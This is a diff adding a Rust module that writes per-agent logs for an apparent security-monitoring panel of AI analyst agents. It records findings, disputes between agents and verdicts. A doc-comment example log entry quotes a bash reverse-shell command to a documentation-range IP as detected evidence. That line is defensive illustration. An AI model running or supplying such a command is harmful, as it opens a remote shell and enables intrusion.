@@ -1,0 +1,248 @@
+//! `<agent>.log`: what one analyst saw, made for `tail -F`.
+
+use std::collections::HashMap;
+use std::collections::hash_map::Entry;
+use std::fmt::Write as _;
+use std::io;
+use std::path::{Path, PathBuf};
+
+use jiff::Timestamp;
+
+use crate::domain::agent_name::log_name;
+use crate::domain::finding::{Evidence, Finding, printable};
+use crate::domain::incident::{Change, Exchange, Incident, Judgement, News, Opinion, Status};
+use crate::record::line_file::LineFile;
+use crate::record::settings::LogSettings;
+
+#[derive(Debug)]
+pub(super) struct AgentLogs {
+    folder: PathBuf,
+    rotation: LogSettings,
+    files: HashMap<String, LineFile>,
+}
+
+impl AgentLogs {
+    /// Creates the logs of these agents, so that they can be tailed before
+    /// anything is found; others follow when they first report.
+    pub(super) fn open(
+        folder: &Path,
+        agents: &[String],
+        rotation: LogSettings,
+    ) -> io::Result<Self> {
+        let mut logs = Self {
+            folder: folder.to_owned(),
+            rotation,
+            files: HashMap::new(),
+        };
+        for agent in agents {
+            logs.file(agent)?;
+        }
+        Ok(logs)
+    }
+
+    /// What is news stands here in full; of what repeats itself only a count,
+    /// at 2, 3, 5, 10, 20, 50, 100 and so on.
+    pub(super) fn finding(&mut self, finding: &Finding, change: &Change, own_count: u64) {
+        if change.loud {
+            let text = block(finding) + &standing(change);
+            self.write(&finding.agent, &text);
+        } else if is_round(own_count) && change.incident.status != Status::Closed {
+            self.write(&finding.agent, &again(finding, change, own_count));
+        }
+    }
+
+    /// What agents said to each other stands in the log of each of the two,
+    /// and the verdict in those of all who spoke.
+    pub(super) fn exchange(&mut self, exchange: &Exchange, incident: &Incident) {
+        for opinion in &exchange.opinions {
+            let text = reply(opinion, incident);
+            self.write(&opinion.agent, &text);
+            if opinion.to != opinion.agent {
+                self.write(&opinion.to, &text);
+            }
+        }
+        let Some(verdict) = &exchange.verdict else {
+            return;
+        };
+        let text = settled(verdict, incident);
+        let spoke = incident.opinions.iter().map(|opinion| &opinion.agent);
+        let mut told: Vec<&String> = Vec::new();
+        for agent in incident.agents.iter().chain(spoke) {
+            if !told.contains(&agent) {
+                self.write(agent, &text);
+                told.push(agent);
+            }
+        }
+    }
+
+    /// Recorded before a crash, and maybe not shown then.
+    pub(super) fn late(&mut self, finding: &Finding) {
+        self.write(&finding.agent, &block(finding));
+    }
+
+    pub(super) fn note(&mut self, agent: &str, text: &str) {
+        let line = format!(
+            "{}  --        {}\n",
+            second(Timestamp::now()),
+            printable(text)
+        );
+        self.write(agent, &line);
+    }
+
+    /// The store is the record; a log that can't be written is said on
+    /// the server's own output and costs no finding.
+    fn write(&mut self, agent: &str, text: &str) {
+        let written = self
+            .file(agent)
+            .and_then(|file| file.append(text.as_bytes()));
+        if let Err(error) = written {
+            tracing::error!(agent, %error, "failed to write to the agent's log");
+        }
+    }
+
+    fn file(&mut self, agent: &str) -> io::Result<&mut LineFile> {
+        match self.files.entry(log_name(agent)) {
+            Entry::Occupied(file) => Ok(file.into_mut()),
+            Entry::Vacant(place) => {
+                let path = self.folder.join(place.key());
+                Ok(place.insert(LineFile::open(path, self.rotation)?))
+            }
+        }
+    }
+}
+
+/// ```text
+/// 2026-11-23T09:14:05Z  CRITICAL  Reverse shell in a terminal  (team, 12.3 s)
+///     > bash -i >& /dev/tcp/203.0.113.45/4444 0>&1
+///     A shell was connected to an outside address.
+///     do: Isolate the host and keep its memory.
+///     incident 019ab3…
+/// ```
+fn block(finding: &Finding) -> String {
+    let mut text = String::new();
+    let severity = finding.severity.as_str().to_uppercase();
+    // Writing to a String does not fail.
+    let _ = writeln!(
+        text,
+        "{}  {severity:<8}  {}  ({}, {}.{} s)",
+        second(finding.observed_at),
+        printable(&finding.title),
+        finding.stream,
+        finding.frame.pts_ms.div_euclid(1000),
+        finding.frame.pts_ms.rem_euclid(1000) / 100,
+    );
+    quotes(&mut text, &finding.evidence);
+    if !finding.detail.is_empty() {
+        let _ = writeln!(text, "    {}", printable(&finding.detail));
+    }
+    if !finding.recommended_action.is_empty() {
+        let _ = writeln!(text, "    do: {}", printable(&finding.recommended_action));
+    }
+    text
+}
+
+/// Why it stands here, and how often it was seen.
+fn standing(change: &Change) -> String {
+    let incident = &change.incident;
+    let why = match change.change {
+        News::Opened => return format!("    incident {}\n", incident.id),
+        News::Reopened => "was closed and is back",
+        News::Returned => "is back after a quiet time",
+        News::SeverityRose => "is worse than it was",
+        News::NewAgent => "was seen by others before",
+        News::NewEvidence => "has new evidence",
+        News::Status | News::Opinions | News::Verdict | News::Note | News::Repeated => "goes on",
+    };
+    format!(
+        "    incident {} {why}: {} findings by {} since {}\n",
+        incident.id,
+        incident.count,
+        incident.agents.join(", "),
+        second(incident.first_seen),
+    )
+}
+
+/// ```text
+/// 2026-11-23T09:14:09Z  --        DevOps -> SecOps: disputes, low (0.80): It is the restore drill.
+///     > restore-drill.service: Succeeded
+///     incident 019ab3… Reverse shell in a terminal
+/// ```
+fn reply(opinion: &Opinion, incident: &Incident) -> String {
+    let weight = match (opinion.severity, opinion.confidence) {
+        (Some(severity), Some(confidence)) => format!(", {severity} ({confidence:.2})"),
+        _ => String::new(),
+    };
+    let mut text = format!(
+        "{}  --        {} -> {}: {}{weight}: {}\n",
+        second(opinion.at),
+        opinion.agent,
+        opinion.to,
+        opinion.stance,
+        printable(&opinion.text),
+    );
+    quotes(&mut text, &opinion.evidence);
+    text + &about(incident)
+}
+
+fn settled(verdict: &Judgement, incident: &Incident) -> String {
+    let dissent = match verdict.dissent.as_slice() {
+        [] => String::new(),
+        dissent => format!("; dissent: {}", dissent.join(", ")),
+    };
+    let text = format!(
+        "{}  --        {}: {} ({:.2}): {}{dissent}\n",
+        second(verdict.at),
+        verdict.by,
+        verdict.severity,
+        verdict.confidence,
+        printable(&verdict.text),
+    );
+    text + &about(incident)
+}
+
+fn about(incident: &Incident) -> String {
+    format!(
+        "    incident {} {}\n",
+        incident.id,
+        printable(&incident.title)
+    )
+}
+
+fn quotes(text: &mut String, evidence: &[Evidence]) {
+    for piece in evidence.iter().filter(|piece| !piece.quote.is_empty()) {
+        let mark = if piece.grounded == Some(false) {
+            "  [not found on screen]"
+        } else {
+            ""
+        };
+        // Writing to a String does not fail.
+        let _ = writeln!(text, "    > {}{mark}", printable(&piece.quote));
+    }
+}
+
+fn again(finding: &Finding, change: &Change, own_count: u64) -> String {
+    let incident = &change.incident;
+    format!(
+        "{}  again     {}  ({own_count} times, {} by the panel since {}; incident {})\n",
+        second(finding.observed_at),
+        printable(&incident.title),
+        incident.count,
+        second(incident.first_seen),
+        incident.id,
+    )
+}
+
+/// 2, 3, 5, 10, 20, 50, 100, ...: the first repeats may say something of their
+/// own, then the count is what tells.
+fn is_round(count: u64) -> bool {
+    let mut head = count;
+    while head >= 10 && head.is_multiple_of(10) {
+        head /= 10;
+    }
+    count == 3 || count >= 2 && matches!(head, 1 | 2 | 5)
+}
+
+/// RFC 3339 in whole seconds, UTC.
+fn second(at: Timestamp) -> String {
+    at.strftime("%Y-%m-%dT%H:%M:%SZ").to_string()
+}
